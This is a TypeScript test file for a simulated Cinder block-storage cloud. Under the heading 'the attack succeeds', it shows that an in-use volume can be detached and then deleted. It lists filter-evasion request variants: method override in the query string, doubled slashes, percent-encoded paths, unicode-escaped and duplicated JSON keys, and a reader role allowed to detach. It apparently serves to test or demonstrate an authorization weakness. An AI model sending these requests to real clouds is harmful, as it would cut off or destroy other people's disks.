import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { type Cloud, startCloud } from '../../src/demo/cloud.ts'
import { attachmentId, PROJECTS, VOLUMES } from '../../src/demo/fixture.ts'
import { askCinder, type CinderRequest } from './ask.ts'

let cloud: Cloud
beforeAll(async () => {
  cloud = await startCloud()
})
beforeEach(() => cloud.reset())
afterAll(() => cloud.stop())

const inUse = VOLUMES['in-use']
const used = attachmentId('in-use')
const demo = `/v3/${PROJECTS.demo}`
const call = (...request: CinderRequest) => askCinder(cloud, ...request)
const action = `${demo}/volumes/${inUse}/action`

describe('the attack succeeds', () => {
  test.each([
    ['DELETE attachment', 'alice', 'DELETE', `${demo}/attachments/${used}`, undefined, 200],
    ['without project', 'alice', 'DELETE', `/v3/attachments/${used}`, undefined, 200],
    ['.json', 'alice', 'DELETE', `${demo}/attachments/${used}.json`, undefined, 200],
    ['method override', 'alice', 'GET', `${demo}/attachments/${used}?_method=DELETE`, undefined, 200],
    [
      'method override after ;',
      'alice',
      'GET',
      `${demo}/attachments/${used}?a=1;_method=delete`,
      undefined,
      200,
    ],
    ['doubled slashes', 'alice', 'DELETE', `//v3//attachments//${used}`, undefined, 200],
    ['escapes', 'alice', 'DELETE', `/v3/%61ttachments/${used.replaceAll('-', '%2d')}`, undefined, 200],
    ['os-detach', 'alice', 'POST', action, { 'os-detach': {} }, 202],
    ['os-detach by id', 'alice', 'POST', action, { 'os-detach': { attachment_id: used } }, 202],
    ['os-detach, escaped key', 'alice', 'POST', action, '{"os-det\\u0061ch": {}}', 202],
    ['os-detach, same key twice', 'alice', 'POST', action, '{"os-detach": 1, "os-detach": {}}', 202],
    ['a reader counts as a member', 'reader', 'POST', action, { 'os-detach': {} }, 202],
    ['os-force_detach', 'admin', 'POST', action, { 'os-force_detach': {} }, 202],
    ['os-reset_status', 'admin', 'POST', action, { 'os-reset_status': { attach_status: 'detached' } }, 202],
    [
      'os-migrate_volume_completion',
      'admin',
      'POST',
      action,
      { 'os-migrate_volume_completion': { new_volume: VOLUMES['migration-target'] } },
      200,
    ],
  ] as const)('%s', async (_name, user, method, path, body, status) => {
    const before = cloud.attachment('in-use')
    expect((await call(user, method, path, body)).status).toBe(status)
    expect(cloud.attachment('in-use')).toBeUndefined()
    expect(before && cloud.volumes.get(inUse)).toBeDefined()
  })

  test('os-terminate_connection cuts the disk and leaves the row', async () => {
    const body = '{"os-terminate_connection": {"connector": {"host": "compute-web-1", "x": NaN}}}'
    expect((await call('alice', 'POST', action, body)).status).toBe(202)
    expect(cloud.attachment('in-use')).toMatchObject({ exported: false, status: 'attached' })
  })

  test('afterwards the volume is free and can go to somebody else', async () => {
    await call('alice', 'DELETE', `${demo}/attachments/${used}`)
    expect(cloud.volume('in-use')?.status).toBe('available')
    expect((await call('alice', 'DELETE', `${demo}/volumes/${inUse}`)).status).toBe(202)
    expect(cloud.volume('in-use')).toBeUndefined()
  })
})
